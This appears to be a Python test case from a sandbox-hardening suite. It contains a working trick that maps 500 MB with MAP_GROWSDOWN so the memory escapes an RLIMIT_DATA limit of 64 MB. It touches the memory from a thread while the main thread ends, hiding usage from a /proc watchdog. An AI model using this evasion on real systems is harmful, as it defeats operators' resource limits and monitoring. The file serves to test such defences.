"""Eat memory that counts as stack, and leave the leader dead.

Attacks: the memory limit and the watchdog's view.
How: MAP_GROWSDOWN isn't data to RLIMIT_DATA; when the main thread has ended, /proc/PID/statm shows zeros.
Source: mmap(2); getrlimit(2) on RLIMIT_DATA; proc(5) on a zombie leader.
Breach: 500 MB are touched under a limit of 64 MB.
"""

import ctypes
import threading
import time

from kernel import libc

GROUP, LIMITS = "resources", {"memory_mb": 64, "wall_s": 4}
ENDS, HOST_S = (None, "memory", "wall", "WorkerCrashed", "ProtocolViolation"), 12.0
_SIZE = 500 << 20


def attack(outside):
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    address = libc.mmap(None, _SIZE, 3, 0x2 | 0x20 | 0x100, -1, 0)
    if address in (None, 2**64 - 1):
        return None

    def touch():
        time.sleep(0.1)
        for offset in range(0, _SIZE, 1 << 20):
            ctypes.memset(address + offset, 1, 1 << 20)
        print("BREACH" + ": 500 MB were had as a stack", flush=True)

    threading.Thread(target=touch).start()
    time.sleep(3)
    return "500 MB were had as a stack"
